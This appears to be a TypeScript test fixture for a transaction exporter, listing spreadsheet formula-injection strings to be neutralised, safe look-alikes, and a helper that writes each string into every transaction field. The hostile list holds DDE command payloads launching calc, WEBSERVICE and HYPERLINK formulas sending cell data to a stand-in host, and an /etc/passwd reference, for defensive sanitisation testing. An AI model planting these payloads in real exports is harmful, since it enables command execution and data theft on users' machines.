import type { CodedTransaction } from '@kontor/exporter-contract';
import { line, rates, receipt, reference, transaction } from './transactions';

/** Texts that a spreadsheet would run, read, send or recalculate if it met them bare. */
export const hostileTexts: readonly string[] = [
  '=1+1', '=', '==1+1', '=SUM(A1:A9)', '=A1', '=HYPERLINK("http://x.example?a="&A1,"click")', "=cmd|' /C calc'!A0",
  '=WEBSERVICE("http://x.example/"&A1)', '=IMPORTXML("http://x.example","//a")', '=DDE("cmd";"/C calc";"x")', '=-2+3', "='file:///etc/passwd'#$a.A1",
  '+1', '+1+1', "+cmd|' /C calc'!A0", '+49 30 1234567', '++1', '-1+1', "-1+cmd|' /C calc'!A0", '-', '-12,50', '-12.50', '--1', '- Notiz', '@SUM(1+1)', '@A1', '@',
  '\t=1+1', '\tText', '\r=1+1', '\rText', '\n=1+1', '\r\n=1+1', '\0=1+1', '\0Text', ' =1+1', '   +1', '\u00A0=1+1', '\u3000=1+1', '\u200B=1+1', '\uFEFF=1+1', '\u0001=1',
  '＝1+1', '＋1', '－1', '＠SUM(1)', ' ＝1', '﹦1', '﹢1', '﹣1', '﹫A1', '−1+1', '"=1+1', '""=1+1', "'=1+1", '“=1+1”', '„=1', '" =1+1',
  'x;=1+1', 'x,=1+1', 'x\t=1+1', 'x\n=1+1', 'x\r=1+1', 'x\r\n=1+1', 'x";"=1+1', 'x","=1+1', 'x;"=1+1', ';=1;=2;=3', ',,=1', 'x;+1', 'x;-1+1', 'x,@A1', 'x;＝1', '";=1;"',
];

/** Texts that only look a little like one and stay as they are. */
export const harmlessTexts: readonly string[] = [
  'Adobe', 'E = mc²', 'a=b', 'a+b', 'a-b', 'post@haus.example', '1+1', '(=1)', 'Hotel, -5 % Rabatt', 'Bahn; + Taxi', 'O’Neill', '50 %', '#1', 'Zeile 1\nZeile 2', '12,50', '"Zur Post"', '',
];

/** The text in every place a person, a merchant or a ledger can write one. */
export const filledWith = (text: string): CodedTransaction =>
  transaction({
    id: text,
    merchant: { name: text, countryCode: text, mcc: text },
    card: { last4: text, holder: text },
    note: text,
    receiptNumber: text,
    supplier: reference(text, text),
    receipts: [receipt('rc', text)],
    lines: [line('-12.50', { taxRate: { ...rates.full, name: text }, glAccount: reference(text, text), costCenter: reference(text, text), costUnit: reference(text, text), text })],
  });

/** The columns whose cells then hold exactly that text. */
export const filledColumns = [
  'transactionId', 'merchant', 'merchantCountry', 'merchantCategory', 'cardLast4', 'cardholder', 'note', 'taxRateName', 'glAccountNumber', 'glAccountName',
  'supplierNumber', 'supplier', 'costCenterNumber', 'costCenter', 'costUnitNumber', 'costUnit', 'lineText', 'receiptNumber', 'receiptFiles',
] as const;
